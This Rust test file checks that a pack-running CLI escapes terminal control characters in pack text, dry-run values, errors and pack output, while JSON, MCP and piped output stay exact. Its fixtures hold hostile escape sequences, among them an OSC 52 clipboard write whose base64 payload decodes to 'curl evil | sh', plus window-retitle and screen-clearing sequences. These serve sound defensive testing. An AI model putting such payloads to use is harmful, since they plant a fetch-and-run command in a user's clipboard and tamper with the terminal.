//! What reaches a person's terminal is inert: text that came from a pack or a caller
//! (a manifest's description and summaries, SKILL.md, `--dry-run` values, error and
//! `next` lines that quote pack text, and the pack's own output on a terminal) shows
//! its control characters escaped, so none of it can write the clipboard (OSC 52),
//! retitle the window (OSC 0) or move and recolour text (CSI). `--json`, MCP and
//! output through a pipe keep the exact text. The escapes fixture carries all of it.

use serde_json::json;

use crate::common::{BIN, TestEnv};
use crate::mcp::Process;

/// OSC 52: puts `curl evil | sh` on the clipboard, to be pasted into a shell.
const CLIPBOARD: &str = "\u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\u{7}";
/// The same, as a person sees it.
const CLIPBOARD_SHOWN: &str = r"\u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\u{7}";

fn escapes_env() -> TestEnv {
    let env = TestEnv::new();
    env.install_fixture("escapes", "escapes");
    env
}

/// Nothing that starts or ends a terminal sequence: ESC, BEL, and CSI as the C1
/// character.
#[track_caller]
fn assert_inert(text: &str) {
    for c in ['\u{1b}', '\u{7}', '\u{9b}'] {
        assert!(!text.contains(c), "{c:?} reaches the terminal: {text:?}");
    }
}

#[test]
fn manifest_and_skill_text_is_shown_escaped_and_json_and_mcp_keep_it() {
    let env = escapes_env();
    let search = env.run(&["search", "escapes"]);
    assert_eq!(search.code, 0, "{search}");
    assert_inert(&search.stdout);
    assert!(
        search.stdout.contains(&format!(
            "terminal {CLIPBOARD_SHOWN} \\u{{1b}}]0;owned\\u{{7}} \\u{{1b}}[2J \\u{{9b}}31m\n"
        )),
        "{search}"
    );
    let skill = env.run(&["skill", "escapes"]);
    assert_eq!(skill.code, 0, "{skill}");
    assert_inert(&skill.stdout);
    for shown in [
        format!("Paste this: {CLIPBOARD_SHOWN} \\u{{1b}}]0;owned\\u{{7}} \\u{{1b}}[2J \\u{{9b}}2J\n"),
        format!("Print escape sequences {CLIPBOARD_SHOWN} on both streams\n"),
        "| echoed back \\u{1b}[31m |".to_owned(),
    ] {
        assert!(skill.stdout.contains(&shown), "{shown:?} in {skill}");
    }

    let (_, search) = env.json(&["search", "escapes"]);
    let description = search["data"]["results"][0]["description"].as_str().unwrap();
    assert!(
        description.ends_with(&format!(
            "terminal {CLIPBOARD} \u{1b}]0;owned\u{7} \u{1b}[2J \u{9b}31m"
        )),
        "{description:?}"
    );
    let (_, skill) = env.json(&["skill", "escapes"]);
    assert!(
        skill["data"]["skill"]
            .as_str()
            .unwrap()
            .contains(&format!("Paste this: {CLIPBOARD} ")),
        "{skill}"
    );

    // MCP: the structured result and the text a model reads keep it exact.
    let mut server = Process::initialized(&env);
    let response = server.call(2, json!(["skill", "escapes"]));
    let result = &response["result"];
    assert!(
        result["structuredContent"]["data"]["skill"]
            .as_str()
            .unwrap()
            .contains(CLIPBOARD),
        "{response}"
    );
    let text = result["content"][0]["text"].as_str().unwrap();
    assert!(text.contains(&format!("Paste this: {CLIPBOARD} ")), "{text:?}");
    let (code, _) = server.close();
    assert_eq!(code, 0);
}

#[test]
fn caller_values_in_a_dry_run_are_shown_escaped() {
    let env = escapes_env();
    let value = format!("text=a{CLIPBOARD}");
    let plan = env.run(&["exec", "escapes", "print", "--dry-run", "--", &value]);
    assert_eq!(plan.code, 0, "{plan}");
    assert_inert(&plan.stdout);
    assert!(
        plan.stdout
            .contains(&format!("print '--text=a{CLIPBOARD_SHOWN}'\n")),
        "{plan}"
    );
    let (_, plan) = env.json(&["exec", "escapes", "print", "--dry-run", "--", &value]);
    assert_eq!(plan["data"]["child"][2], json!(format!("--text=a{CLIPBOARD}")));
}

/// The pack's CLI names a program with a title sequence in its name: the
/// availability report, the refusal and its `next` line quote it escaped.
#[test]
fn errors_and_next_lines_that_quote_pack_text_are_shown_escaped() {
    let env = TestEnv::new();
    let manifest = json!({
        "hcp": 1, "id": "ghost", "version": "0.1.0", "description": "a pack whose CLI is nowhere",
        "bin": ["gh\u{1b}]0;owned\u{7}ost"],
        "commands": { "run": { "summary": "run it", "effect": "read", "argv": ["run"] } }
    });
    env.write("home/packs/ghost/hcp.json", &manifest.to_string());
    env.write(
        "home/packs/ghost/SKILL.md",
        "---\nname: ghost\ndescription: a pack whose CLI is nowhere\n---\n",
    );
    let shown = r"`gh\u{1b}]0;owned\u{7}ost`";
    let available = env.run(&["availability", "ghost"]);
    assert_inert(&available.stdout);
    assert!(
        available
            .stdout
            .contains(&format!("runnable: {shown} is not on PATH\n")),
        "{available}"
    );
    let refused = env.run(&["exec", "ghost", "run"]);
    assert_eq!(refused.code, 2, "{refused}");
    assert_inert(&refused.stderr);
    assert_eq!(
        refused.stderr,
        format!(
            "error: the pack's CLI {shown} is not on PATH\nnext: install {shown}, then run hcpx availability ghost\n"
        )
    );
    let (_, envelope) = env.json(&["exec", "ghost", "run"]);
    assert_eq!(
        envelope["error"]["message"],
        json!("the pack's CLI `gh\u{1b}]0;owned\u{7}ost` is not on PATH")
    );
}

/// What the fixture's CLI writes, byte for byte.
const OUT: &[u8] =
    b"out \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 \x1b]0;owned\x07 \x1b[31mred\x1b[0m \xc2\x9b31m hi\n";
const ERR: &[u8] = b"err \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\n";

#[test]
fn pack_output_is_escaped_on_a_terminal_and_exact_through_a_pipe() {
    let env = escapes_env();
    // Through a pipe (`hcpx exec ... > file`): exact.
    let piped = env
        .command(&["exec", "escapes", "print", "--", "text=hi"])
        .output()
        .unwrap();
    assert_eq!(piped.status.code(), Some(0));
    assert_eq!(piped.stdout, OUT);
    assert_eq!(piped.stderr, ERR);
    let (_, envelope) = env.json(&["exec", "escapes", "print", "--", "text=hi"]);
    assert_eq!(envelope["stdout"], json!(String::from_utf8_lossy(OUT)));

    // On a terminal: escaped, on both streams.
    let Some(mut terminal) = env.in_terminal(&format!("{BIN} exec escapes print -- text=hi")) else {
        return;
    };
    let output = terminal.output().unwrap();
    let shown = String::from_utf8_lossy(&output.stdout);
    assert_eq!(output.status.code(), Some(0), "{shown}");
    assert_inert(&shown);
    assert_eq!(
        shown.replace("\r\n", "\n"),
        format!(
            "out {CLIPBOARD_SHOWN} \\u{{1b}}]0;owned\\u{{7}} \\u{{1b}}[31mred\\u{{1b}}[0m \\u{{9b}}31m hi\nerr {CLIPBOARD_SHOWN}\n"
        )
    );
}

/// A confirmation at the terminal quotes the caller's words escaped.
#[test]
fn a_confirmation_quotes_the_callers_words_escaped() {
    use std::io::Write as _;
    let env = TestEnv::new();
    let line = format!("{BIN} install \"$(printf 'x\\033]0;owned\\007')\"");
    let Some(mut terminal) = env.in_terminal(&line) else {
        return;
    };
    let mut script = terminal
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    script.stdin.take().unwrap().write_all(b"n\n").unwrap();
    let output = script.wait_with_output().unwrap();
    let shown = String::from_utf8_lossy(&output.stdout);
    assert_inert(&shown);
    assert!(
        shown.contains(r"install x\u{1b}]0;owned\u{7}? (confirm) [y/N]"),
        "{shown}"
    );
    assert!(shown.contains("you answered no"), "{shown}");
}
